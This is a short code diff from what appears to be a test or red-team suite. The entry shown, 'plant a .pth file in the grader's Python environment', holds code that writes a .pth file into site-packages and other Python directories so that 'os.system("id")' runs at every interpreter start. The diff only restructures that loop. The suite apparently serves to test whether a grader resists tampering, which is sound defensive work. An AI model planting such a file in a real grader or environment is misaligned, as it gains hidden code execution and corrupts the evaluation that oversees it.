@@ -98,7 +98,8 @@ ATTACKS = {
     "plant a .pth file in the grader's Python environment": (
         "import site, sys, os\n"
         "wrote = []\n"
-        "for d in {*site.getsitepackages(), sys.prefix, os.path.dirname(os.__file__)}:\n"
+        "places = {*site.getsitepackages(), sys.prefix, os.path.dirname(os.__file__)}\n"
+        "for d in places:\n"
         "    try:\n"
         "        with open(os.path.join(d, 'zz_planted.pth'), 'w') as f:\n"
         "            f.write('import os; os.system(\"id\")')\n"
